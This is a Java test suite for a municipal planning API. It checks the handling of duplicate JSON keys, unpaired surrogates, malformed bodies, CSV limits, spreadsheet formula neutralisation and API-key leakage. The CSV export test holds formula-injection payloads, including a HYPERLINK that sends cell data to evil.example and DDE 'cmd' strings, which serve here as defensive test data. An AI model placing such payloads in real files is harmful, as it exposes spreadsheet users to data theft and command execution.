package se.styrkort.fuzz;

import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.notNullValue;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static se.styrkort.support.Api.given;
import static se.styrkort.support.Api.givenInvalid;
import static se.styrkort.support.Api.withoutCredentials;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import se.styrkort.bulk.BulkEntryFixtures;
import se.styrkort.common.Problem;
import se.styrkort.goal.GoalFixtures;
import se.styrkort.point.PointFixtures;
import se.styrkort.support.Api;

/**
 * What an attacker and a careless client sent (issue 15), each class of input as the smallest
 * requests that showed it: duplicate keys, unpaired surrogates, Jackson's internals in error
 * details, CSV cells past the JSON limits, formulas in CSV exports, credentials echoed into links.
 */
@QuarkusTest
class HostileInputTest {

  /** A library's words a caller has no use for (issue 15, item 14). */
  private static final Pattern INTERNALS =
      Pattern.compile("`|Feature|Constraints|java\\.|com\\.fasterxml|\\b[A-Z]{2,}_[A-Z_]+\\b");

  /** Item 6: a key given twice is a 400 naming it, on every kind of body, however deep. */
  @Test
  void aKeyGivenTwiceIsAFieldErrorNamingIt() {
    long plan = GoalFixtures.newPlan();
    long point = BulkEntryFixtures.pointIn(plan, "Förskola");
    long value = PointFixtures.recordOutcome(point, 2024, 50);

    record Case(String method, String path, Object id, String body, String field) {
      Case(String path, Object id, String body, String field) {
        this("POST", path, id, body, field);
      }
    }
    List<Case> cases =
        List.of(
            new Case(
                "PUT",
                "/api/v1/plans/{id}/visibility",
                plan,
                "{\"public\":true,\"public\":false}",
                "public"),
            new Case(
                "/api/v1/measurement-points/{id}/evaluations",
                point,
                "{\"year\":2024,\"kind\":\"FORECAST\",\"asOf\":\"2024-06-30\","
                    + "\"value\":5,\"value\":12}",
                "value"),
            new Case(
                "/api/v1/evaluations/{id}/reopening",
                value,
                "{\"reason\":\"a\",\"reason\":\"b\"}",
                "reason"),
            new Case(
                "/api/v1/plans/{id}/adoption",
                plan,
                "{\"decisionReference\":\"KF § 1\",\"decisionDate\":\"2024-11-25\","
                    + "\"decisionDate\":\"2024-11-26\"}",
                "decisionDate"),
            new Case(
                "/api/v1/plans/{id}/evaluations/approval",
                plan,
                "{\"asOf\":\"2024-12-31\",\"kind\":\"OUTCOME\",\"kind\":\"FORECAST\"}",
                "kind"),
            new Case(
                "/api/v1/measurement-points/{id}/kolada-import",
                point,
                "{\"koladaKpi\":\"N15419\",\"koladaKpi\":\"N15420\"}",
                "koladaKpi"),
            new Case(
                "/api/v1/plans/{id}/evaluations/bulk",
                plan,
                "{\"rows\":[{\"measurementPointId\":"
                    + point
                    + ",\"year\":2025,\"kind\":\"OUTCOME\",\"asOf\":\"2025-12-31\","
                    + "\"note\":\"a\",\"note\":\"b\"}]}",
                "rows[0].note"),
            new Case(
                "/api/v1/measurement-points/{id}/evaluations",
                point,
                "{\"year\":2024,\"kind\":\"FORECAST\",\"asOf\":\"2024-06-30\","
                    + "\"value\":{\"a\":1,\"a\":2}}",
                "value.a"));
    for (Case c : cases) {
      Response response =
          c.method().equals("PUT")
              ? givenInvalid().body(c.body()).put(c.path(), c.id())
              : givenInvalid().body(c.body()).post(c.path(), c.id());
      assertEquals(400, response.statusCode(), () -> c.path() + " answered " + response.asString());
      response
          .then()
          .contentType(Problem.MEDIA_TYPE)
          .body("code", equalTo("VALIDATION_FAILED"))
          .body("errors[0].field", equalTo(c.field()))
          .body("errors[0].message", equalTo("is given more than once"));
    }
    // Nothing of the refused requests was written: still the one value, still not adopted.
    given()
        .get("/api/v1/measurement-points/{id}/evaluations", point)
        .then()
        .statusCode(200)
        .body("items.size()", equalTo(1));
    given().get("/api/v1/plans/{id}", plan).then().statusCode(200).body("status", equalTo("DRAFT"));
  }

  /**
   * Item 9: an unpaired surrogate was answered as sent but stored as "?"; it is refused, in a
   * record's text and inside a free-form value alike, while a real pair (an emoji) is kept.
   */
  @Test
  void anUnpairedSurrogateIsRefusedAndAPairIsKept() {
    long plan = GoalFixtures.newPlan();
    long point = BulkEntryFixtures.pointIn(plan, "Förskola");
    String path = "/api/v1/measurement-points/{id}/evaluations";
    String prefix = "{\"year\":2024,\"kind\":\"FORECAST\",\"asOf\":\"2024-06-30\",";

    for (String note : List.of("\\ud800", "a\\udfffb", "\\udc00\\ud800", "x\\ud83d")) {
      givenInvalid()
          .body(prefix + "\"value\":5,\"note\":\"" + note + "\"}")
          .post(path, point)
          .then()
          .statusCode(400)
          .contentType(Problem.MEDIA_TYPE)
          .body("errors[0].field", equalTo("note"))
          .body("errors[0].message", containsString("surrogate"));
    }
    givenInvalid()
        .body(prefix + "\"value\":\"\\ud800\"}")
        .post(path, point)
        .then()
        .statusCode(400)
        .body("errors[0].field", equalTo("value"));
    givenInvalid()
        .body(
            "{\"name\":\"Plan \\ud800\",\"organisation\":\"Testkommun\",\"startYear\":2024,"
                + "\"endYear\":2026,\"baselineYear\":2023}")
        .post("/api/v1/plans")
        .then()
        .statusCode(400)
        .body("errors[0].field", equalTo("name"));

    long id =
        givenInvalid()
            .body(prefix + "\"value\":5,\"note\":\"Bra \\ud83d\\ude00\"}")
            .post(path, point)
            .then()
            .statusCode(201)
            .body("note", equalTo("Bra \uD83D\uDE00"))
            .extract()
            .jsonPath()
            .getLong("id");
    given()
        .get("/api/v1/evaluations/{id}", id)
        .then()
        .statusCode(200)
        .body("note", equalTo("Bra \uD83D\uDE00"));
  }

  /** Item 14 (and 8's numbers): details say what is wrong in the body, not how Jackson is set. */
  @Test
  void malformedBodiesAreDescribedInTheCallersTerms() {
    long plan = GoalFixtures.newPlan();
    long point = BulkEntryFixtures.pointIn(plan, "Förskola");
    String path = "/api/v1/measurement-points/{id}/evaluations";
    String prefix = "{\"year\":2024,\"kind\":\"FORECAST\",\"asOf\":\"2024-06-30\",\"value\":";
    Map<String, String> expected =
        Map.of(
            prefix + "NaN}",
            "NaN and Infinity are not JSON numbers",
            prefix + "-Infinity}",
            "NaN and Infinity are not JSON numbers",
            "{\"a\":".repeat(1500) + "1" + "}".repeat(1500),
            "nested more than 1000 levels deep",
            prefix + "1" + "0".repeat(1200) + "}",
            "longer than 1000 digits",
            "{'year':2024}",
            "double-quote",
            "{\"year\":2024,}",
            "The body is not valid JSON at line 1",
            prefix + "5",
            "The body is not valid JSON");
    for (Map.Entry<String, String> c : expected.entrySet()) {
      Response response = givenInvalid().body(c.getKey()).post(path, point);
      response
          .then()
          .statusCode(400)
          .contentType(Problem.MEDIA_TYPE)
          .body("code", equalTo("MALFORMED_JSON"))
          .body("detail", containsString(c.getValue()));
      String said =
          response.jsonPath().getString("detail") + response.jsonPath().getString("errors");
      assertFalse(
          INTERNALS.matcher(said).find(),
          () -> c.getKey().substring(0, 40) + " answered " + response.asString());
    }

    // Inside a free-form value, the parser's limits are the value's field error.
    givenInvalid()
        .body(prefix + "[".repeat(1500) + "]".repeat(1500) + "}")
        .post(path, point)
        .then()
        .statusCode(400)
        .body("errors[0].field", equalTo("value"))
        .body("errors[0].message", equalTo("is nested more than 1000 levels deep"));

    // A decimal of absurd size is refused before anything computes with it.
    for (String huge : List.of("1e10000000", "-1e-10000000", "1E+2147483647")) {
      givenInvalid()
          .body(prefix + huge + "}")
          .post(path, point)
          .then()
          .statusCode(400)
          .body("errors[0].field", equalTo("value"))
          .body("errors[0].message", not(containsString("`")));
    }
  }

  /**
   * Item 7: a CSV import checks every cell as the JSON bulk entry checks its field, and names row
   * and column; an unclosed quote is a 400 too.
   */
  @Test
  void csvCellsObeyTheLimitsOfTheirJsonFields() {
    long plan = GoalFixtures.newPlan();
    long point = BulkEntryFixtures.pointIn(plan, "Förskola");
    String header = "measurementPointId;year;kind;asOf;value;note;periodLabel\n";
    String good = point + ";2024;OUTCOME;2024-12-31;50;;Helår\n";

    csv(header + good + point + ";2025;OUTCOME;2025-12-31;50;;" + "x".repeat(300) + "\n", plan)
        .then()
        .statusCode(400)
        .contentType(Problem.MEDIA_TYPE)
        .body("errors[0].field", equalTo("rows[1].periodLabel"))
        .body("errors[0].message", containsString("100"));
    csv(header + point + ";2025;OUTCOME;2025-12-31;50;" + "å".repeat(70_000) + ";\n", plan)
        .then()
        .statusCode(400)
        .body("errors[0].field", equalTo("rows[0].note"));
    csv(header + point + ";3000;OUTCOME;2025-12-31;50;;\n", plan)
        .then()
        .statusCode(400)
        .body("errors[0].field", equalTo("rows[0].year"));
    csv(header + good + point + ";2025;OUTCOME;2025-12-31;50;\"never closed;\n", plan)
        .then()
        .statusCode(400)
        .contentType(Problem.MEDIA_TYPE)
        .body("errors[0].field", equalTo("rows[1]"))
        .body("errors[0].message", containsString("line 3"));
    csv("\"measurementPointId;year\n", plan).then().statusCode(400).body("code", notNullValue());

    // All or nothing: none of the good rows before the bad ones was written.
    given()
        .get("/api/v1/measurement-points/{id}/evaluations", point)
        .then()
        .statusCode(200)
        .body("items.size()", equalTo(0));
    csv(header + good, plan).then().statusCode(200).body("created", equalTo(1));
  }

  /**
   * Item 12: a text cell that a spreadsheet would run (= + - @ tab CR first) is exported with a
   * leading apostrophe; numbers, negative ones too, are left as they are.
   */
  @Test
  void csvExportsNeutraliseFormulas() throws Exception {
    long plan = GoalFixtures.newPlan();
    long goal = GoalFixtures.newGoal(plan, GoalFixtures.newFocusArea(plan));
    long indicator =
        given()
            .body(Map.of("title", "Nettokostnadsavvikelse"))
            .post("/api/v1/goals/{goalId}/indicators", goal)
            .then()
            .statusCode(201)
            .extract()
            .jsonPath()
            .getLong("id");
    long point =
        PointFixtures.create(
            indicator, PointFixtures.count("=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")"));
    List<String> notes =
        List.of(
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "\tindrag",
            "\rretur",
            "vanlig text, = mitt i");
    for (int i = 0; i < notes.size(); i++) {
      given()
          .body(
              Map.of(
                  "year",
                  2024,
                  "kind",
                  "FORECAST",
                  "asOf",
                  "2024-0" + (i + 1) + "-15",
                  "value",
                  -5.5,
                  "note",
                  notes.get(i)))
          .post("/api/v1/measurement-points/{id}/evaluations", point)
          .then()
          .statusCode(201);
    }
    String text =
        given()
            .accept("text/csv")
            .queryParam("planId", plan)
            .get("/api/v1/bi/evaluations")
            .then()
            .statusCode(200)
            .extract()
            .asString();
    List<CSVRecord> rows =
        CSVFormat.RFC4180
            .builder()
            .setHeader()
            .setSkipHeaderRecord(true)
            .get()
            .parse(new StringReader(text))
            .getRecords();
    List<String> exportedNotes = new ArrayList<>();
    for (CSVRecord row : rows) {
      exportedNotes.add(row.get("note"));
      assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")", row.get("pointLabel"));
      assertEquals("-5.5", row.get("value"));
      assertEquals("-5.5", row.get("valueText"));
    }
    assertEquals(
        List.of(
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'+1+1",
            "'-2+3+cmd|' /C calc'!A0",
            "'\tindrag",
            "'\rretur",
            "vanlig text, = mitt i"),
        exportedNotes);
  }

  /**
   * Item 13: an API key sent as the api_key query parameter is never echoed into a next link, on
   * any paged collection, however the parameter's name is encoded.
   */
  @Test
  void aQueryCredentialIsNeverEchoedIntoALink() {
    String secret = Api.keyFor("ADMIN");
    for (String name : List.of("api_key", "api%5Fkey")) {
      for (String path :
          List.of(
              "/api/v1/plans?limit=1&",
              "/api/v1/bi/evaluations?limit=1&",
              "/api/v1/bi/facts?limit=1&",
              "/api/v1/changes?limit=1&")) {
        // Authenticated by header as well, so the collection has a next page whether or not the
        // encoded name is read as the credential.
        Response response =
            withoutCredentials()
                .header(Api.API_KEY_HEADER, secret)
                .urlEncodingEnabled(false)
                .get(path + name + "=" + secret + "&x=%7Bb%7D");
        response.then().statusCode(200);
        String next = response.jsonPath().getString("next");
        assertNotNull(next, path);
        assertFalse(next.contains(secret), () -> path + " echoed the key: " + next);
        assertTrue(next.contains("x=%7Bb%7D"), () -> path + " lost the query: " + next);
      }
    }
  }

  private static Response csv(String body, long plan) {
    return givenInvalid()
        .contentType("text/csv; charset=UTF-8")
        .body(body)
        .post("/api/v1/plans/{planId}/evaluations/import", plan);
  }
}
